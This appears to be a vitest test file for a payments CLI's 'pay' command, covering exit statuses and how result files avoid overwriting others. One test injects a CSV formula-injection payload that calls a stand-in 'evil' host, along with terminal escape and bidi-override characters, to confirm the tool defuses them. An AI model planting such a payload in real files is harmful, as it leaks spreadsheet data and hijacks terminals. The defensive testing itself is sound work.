/** How `pay` ends: statuses that tell what the platform holds, and files that replace none of others. */
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import { seeded } from '../../bench/simulated/random.js'
import { watched } from '../export/file/disk.js'
import { runs } from '../support/runs.js'
import { COLUMNS, changed, paying } from './paying.js'
import { cli, rowsOf } from './support.js'

const { at, env, sandbox, row, newRun, pay, wages, csv } = await paying()

const BOUND = ['--yes', '--max', 'USD=1000000']

const OUTCOME = '{"request_id":"a","batch":"b-1","state":"booked"}\n'

type Change = Parameters<typeof changed>[1]

const names = async (): Promise<ReadonlyArray<string>> => (await readdir(at('.'))).toSorted()

describe('the status', () => {
  it('is 4 for other payments under the name of a run that is booked, with those that are new', async () => {
    const run = newRun()
    const file = await csv('w.csv', wages(3))
    expect((await pay([file, '--run', run, ...BOUND])).status).toBe(0)
    await csv('w.csv', [...wages(3), row(7)])
    const { status, stderr } = await pay([file, '--run', run, ...BOUND])
    expect(status).toBe(4)
    expect(stderr).toContain(`${run}-1 is BOOKED with 3 items: do not pay these again`)
    expect(stderr).not.toContain('nothing')
    const unpaid = `${file}.${run}.unpaid.csv`
    expect(stderr).toContain(`1 row not in any batch of ${run}: ${unpaid}\n`)
    expect((await readFile(unpaid, 'utf8')).trimEnd().split('\n')).toEqual([COLUMNS, row(7)])
    const rest = await pay([unpaid, '--run', newRun(), ...BOUND])
    expect(rest.stderr).toContain('complete: 1 of 1 payment')
  })

  it('is 2 while the batches of other payments are drafts, which can be discarded', async () => {
    const run = newRun()
    const file = await csv('w.csv', wages(3))
    await pay([file, '--run', run])
    await csv('w.csv', wages(2))
    const { status, stderr } = await pay([file, '--run', run, ...BOUND])
    expect(status).toBe(2)
    expect(stderr).toMatch(/discard its drafts, then pay these under another name$/m)
  })

  it('is 0 for the same payments with amounts that were saved otherwise', async () => {
    const run = newRun()
    await pay([await csv('w.csv', [row(1, 'a', '12.5'), row(2, 'b', '7')]), '--run', run, ...BOUND])
    const file = await csv('w.csv', [row(1, 'a', '12.50'), row(2, 'b', '7.00')])
    const { status, stderr } = await pay([file, '--run', run, ...BOUND])
    expect(status).toBe(0)
    expect(stderr).toContain('complete: 2 of 2')
  })

  it.each([
    ['access', 401],
    ['access', 403],
    ['the login', 401],
    ['the login', 403],
  ])('is 4 where %s is refused with %i after a run that may have paid', async (what, code) => {
    const run = newRun()
    const file = await csv('w.csv', wages(2))
    await pay([file, '--run', run, ...BOUND])
    const refusal = { status: code, json: { code: 'forbidden', message: 'no' } }
    const refuse: Change = async (url, ask) =>
      /login/.test(url) === (what === 'the login') ? refusal : ask()
    await changed(sandbox, refuse, async (url) => {
      const behind = { ...env, PAYMENTS_BASE_URL: url }
      const { status, stderr } = await pay([file, '--run', run, ...BOUND], { env: behind })
      expect(status).toBe(4)
      const first = `${what} was refused, so this run submitted nothing \\((GET|POST) .* ${code} `
      const last = `; an earlier run of ${run} may have submitted payments; once the cause is fixed, `
      expect(stderr).toMatch(new RegExp(`^payments-rx: ${first}.*${last}`, 'm'))
    })
  })

  it.each([
    ['a header only', 'x.csv', `${COLUMNS}\n`],
    ['an NDJSON file of no bytes', 'x.ndjson', ''],
  ])('is 2 for %s, unless that is allowed', async (_, name, content) => {
    const run = newRun()
    await writeFile(at(name), content)
    const { status, stderr } = await pay([at(name), '--run', run, ...BOUND])
    expect(status).toBe(2)
    expect(stderr).toContain(
      `${run}: there is nothing to pay: no items were given; no batch of ${run}`,
    )
    expect((await pay([at(name), '--run', run, '--allow-empty'])).status).toBe(0)
    await pay([await csv('w.csv', wages(2)), '--run', run, ...BOUND])
    const again = await pay([at(name), '--run', run, ...BOUND])
    expect(again.status).toBe(2)
    expect(again.stderr).toContain(`${run}-1 is BOOKED with 2 items`)
    expect((await pay([at(name), '--run', run, '--allow-empty'])).status).toBe(4)
  })

  it('is 2 for a producer whose pipe broke, and for rows that are all left out', async () => {
    const broken = await pay(['-', '--run', newRun(), ...BOUND], { stdin: `${COLUMNS}\n` })
    expect(broken.status).toBe(2)
    const file = await csv('w.csv', [row(1).replace('USD', 'dollars')])
    const none = await pay([file, '--run', newRun(), ...BOUND, '--without-invalid'])
    expect(none.status).toBe(2)
    expect(none.stderr).toContain('all 1 were left out as invalid')
  })

  it('of --discard is 2 for drafts that no run made, which stay', async () => {
    const run = newRun()
    const create = ['call', 'batchTransfers.create', `request_id=${run}-1`, '--yes']
    expect((await cli(create, { env })).status).toBe(0)
    const { status, stderr } = await pay(['--run', run, '--discard'])
    expect(status).toBe(2)
    expect(stderr).toContain(`batch ${run}-1 was not created by this run`)
  })
})

describe('results', () => {
  it.each([
    ['a folder', (path: string) => mkdir(path)],
    ['a file of another program', (path: string) => writeFile(path, 'mine')],
    ['outcomes of another run', (path: string) => writeFile(path, OUTCOME)],
    ['a link', (path: string) => symlink(at('victim'), path)],
  ])('go beside %s by their name, with a number', async (_, put) => {
    const run = newRun()
    const file = await csv('w.csv', [row(1), row(2, 'Pay 2_failed', '3.00')])
    await writeFile(at('victim'), 'precious')
    await put(`${file}.${run}.outcomes.ndjson`)
    await put(`${file}.${run}.rejected.csv`)
    for (const _again of [1, 2]) {
      const { status, stderr } = await pay([file, '--run', run, ...BOUND])
      expect(status).toBe(4)
      expect(stderr).toContain(`${file}.${run}.outcomes.2.ndjson`)
      expect(stderr).toContain(`${file}.${run}.rejected.2.csv`)
    }
    expect(await rowsOf(`${file}.${run}.outcomes.2.ndjson`)).toHaveLength(2)
    expect(await readFile(at('victim'), 'utf8')).toBe('precious')
    expect((await names()).filter((name) => /part$|\.3\./.test(name))).toEqual([])
  })

  it('keep a rejected file that was corrected', async () => {
    const run = newRun()
    const file = await csv('w.csv', [row(1), row(2, undefined, '-5')])
    const args = [file, '--run', run, ...BOUND, '--without-invalid']
    await pay(args)
    const rejected = `${file}.${run}.rejected.csv`
    const corrected = (await readFile(rejected, 'utf8')).replace('-5', '5')
    await writeFile(rejected, corrected)
    const { stderr } = await pay(args)
    expect(await readFile(rejected, 'utf8')).toBe(corrected)
    expect(stderr).toContain(`${file}.${run}.rejected.2.csv`)
  })

  it('have reasons of the platform that are no formula, and drive no terminal', async () => {
    const source = '=HYPERLINK("http://evil/?"&A1)\u001b]0;x\u0007\u009b31m\u202e'
    const run = newRun()
    const file = await csv('w.csv', [row(1)])
    const failed = { status: 'BOOKING_FAILED', errors: [{ source, code: 'x' }] }
    const fail: Change = async (url, ask) => {
      const { status, json } = await ask()
      const items = /\/items/.test(url) && json.items?.map((item) => ({ ...item, ...failed }))
      return { status, json: items ? { ...json, items } : json }
    }
    await changed(sandbox, fail, async (url) => {
      const behind = { ...env, PAYMENTS_BASE_URL: url }
      const { status, stderr } = await pay([file, '--run', run, ...BOUND], { env: behind })
      expect(status).toBe(4)
      const rejected = await readFile(`${file}.${run}.rejected.csv`, 'utf8')
      const outcomes = await readFile(`${file}.${run}.outcomes.ndjson`, 'utf8')
      expect(rejected).toMatch(/,"?'=HYPERLINK/)
      for (const text of [rejected, outcomes, stderr]) {
        expect(text).not.toMatch(/(?!\n)[\p{Cc}\u202a-\u202e]/u)
      }
    })
  })

  it('are tried before the first request', async () => {
    const { files } = watched({ room: 100 })
    const file = await csv('w.csv', wages(2))
    const run = newRun()
    const { status, stderr } = await pay([file, '--run', run, ...BOUND], { files })
    expect(status).toBe(2)
    expect(stderr).toMatch(/cannot write .*\.outcomes\.ndjson \(ENOSPC\): nothing was sent$/m)
    expect((await pay(['--run', run, '--discard'])).stdout).toContain('0 drafts deleted')
    expect(await names()).toEqual(['w.csv'])
  })

  it('are printed where the disk is full once all is booked, with a status that is not 2', async () => {
    const random = seeded(4)
    const counts = { printed: 0, written: 0 }
    const hasBoth = (): boolean => counts.printed > 0 && counts.written > 0
    for (let game = 0; game < runs(8) || (game < 8 && !hasBoth()); game++) {
      const run = newRun()
      const file = await csv(`w${game}.csv`, [...wages(150), row(0, 'Pay 0_failed', '3.00')])
      const disk = watched({ room: 4_200 + Math.floor(random() * 50_000) })
      const { status, stderr } = await pay([file, '--run', run, ...BOUND], { files: disk.files })
      const printed = stderr.split('\n').filter((line) => line.startsWith('{'))
      const written = await rowsOf(`${file}.${run}.outcomes.ndjson`).catch(() => [])
      expect(status).toBe(4)
      expect(disk.open()).toBe(0)
      expect([printed.length, written.length].toSorted((a, b) => a - b)).toEqual([0, 151])
      for (const line of printed) expect(JSON.parse(line)).toMatchObject({ batch: `${run}-1` })
      if (printed.length > 0) {
        expect(stderr).toMatch(/the outcomes could not be written \(ENOSPC\)/)
        counts.printed++
      } else counts.written++
      disk.room(1_000_000)
      const again = await pay([file, '--run', run, ...BOUND], { files: disk.files })
      expect(again.stderr).toContain('150 of 151 payments')
      expect(await rowsOf(`${file}.${run}.outcomes.ndjson`)).toHaveLength(151)
      expect((await names()).filter((name) => name.endsWith('.part'))).toEqual([])
    }
    expect(hasBoth()).toBe(true)
  })

  it('that are missing make a run unfinished of which all is booked', async () => {
    const run = newRun()
    const file = await csv('w.csv', wages(3))
    const { files, room } = watched({ room: 4_200 })
    const { status, stderr } = await pay([file, '--run', run, ...BOUND], { files })
    expect(status).toBe(1)
    expect(stderr).toContain('complete: 3 of 3')
    expect(stderr).toMatch(/printed on stderr instead; rerun the same command to write them$/m)
    room(10_000)
    expect((await pay([file, '--run', run, ...BOUND], { files })).status).toBe(0)
  })
})
